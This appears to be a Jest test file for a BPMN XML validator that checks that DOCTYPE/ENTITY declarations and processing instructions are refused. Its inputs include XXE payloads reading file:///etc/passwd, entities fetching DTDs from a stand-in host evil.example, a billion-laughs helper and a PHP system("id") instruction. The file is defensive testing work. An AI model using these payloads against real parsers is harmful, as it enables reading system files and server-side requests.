import { ISSUE_CODES } from '../issue-codes';
import { billionLaughs, externalEntity } from '../testing/payloads';
import { findDtdMarkup, findForbiddenProcessingInstruction } from './forbidden-markup';

describe('findDtdMarkup', () => {
  it('finds the DOCTYPE of a billion-laughs payload, with its position', () => {
    expect(findDtdMarkup(billionLaughs())).toEqual({
      code: ISSUE_CODES.xmlDoctypeForbidden,
      message: 'Tệp BPMN không được chứa khai báo DOCTYPE/ENTITY (DTD and entity declarations are forbidden)',
      line: 2,
      column: 1,
    });
  });

  it.each([
    ['an external entity (XXE)', externalEntity()],
    ['a lower-case doctype', externalEntity('<!doctype foo [ <!entity xxe SYSTEM "file:///etc/passwd"> ]>')],
    ['whitespace after <!', externalEntity('<!\n  DOCTYPE foo [ <!ENTITY xxe SYSTEM "http://evil.example/x"> ]>')],
    ['a parameter entity without DOCTYPE first', '<!ENTITY % p SYSTEM "http://evil.example/p.dtd"><a/>'],
    ['a doctype after a comment', '<?xml version="1.0"?><!-- harmless --><!DOCTYPE a SYSTEM "http://evil.example/a.dtd"><a/>'],
  ])('finds %s', (_label, xml) => {
    expect(findDtdMarkup(xml)?.code).toBe(ISSUE_CODES.xmlDoctypeForbidden);
    expect(findDtdMarkup(xml)?.message).toContain('DOCTYPE/ENTITY');
  });

  it('finds other DTD declarations too', () => {
    expect(findDtdMarkup('<!ELEMENT a ANY><a/>')?.message).toContain('<!…');
    expect(findDtdMarkup('<a><!ATTLIST a b CDATA #IMPLIED></a>')?.code).toBe(ISSUE_CODES.xmlDoctypeForbidden);
  });

  it('lets comments and CDATA sections through', () => {
    expect(findDtdMarkup('<a><!-- note --><![CDATA[ x < y ]]></a>')).toBeUndefined();
  });

  it('also refuses the text of a DOCTYPE inside a comment: the scan never trusts where a comment ends', () => {
    expect(findDtdMarkup('<a><!-- <!DOCTYPE x> --></a>')?.code).toBe(ISSUE_CODES.xmlDoctypeForbidden);
  });
});

describe('findForbiddenProcessingInstruction', () => {
  it('accepts the XML declaration at the start, after whitespace, or no declaration at all', () => {
    expect(findForbiddenProcessingInstruction('<?xml version="1.0" encoding="UTF-8"?><a/>')).toBeUndefined();
    expect(findForbiddenProcessingInstruction('\n  <?xml version="1.0"?>\n<a/>')).toBeUndefined();
    expect(findForbiddenProcessingInstruction('<a/>')).toBeUndefined();
  });

  it.each([
    ['a stylesheet instruction', '<?xml version="1.0"?>\n<?xml-stylesheet href="x.xsl"?><a/>', 2, 1],
    ['an instruction inside the document', '<a>\n  <?php system("id"); ?></a>', 2, 3],
    ['a second XML declaration', '<?xml version="1.0"?><a><?xml version="1.0"?></a>', 1, 25],
    ['an upper-case XML declaration', '<?XML version="1.0"?><a/>', 1, 1],
  ])('refuses %s', (_label, xml, line, column) => {
    expect(findForbiddenProcessingInstruction(xml)).toEqual({
      code: ISSUE_CODES.xmlProcessingInstructionForbidden,
      message: expect.stringContaining('<?xml'),
      line,
      column,
    });
  });
});
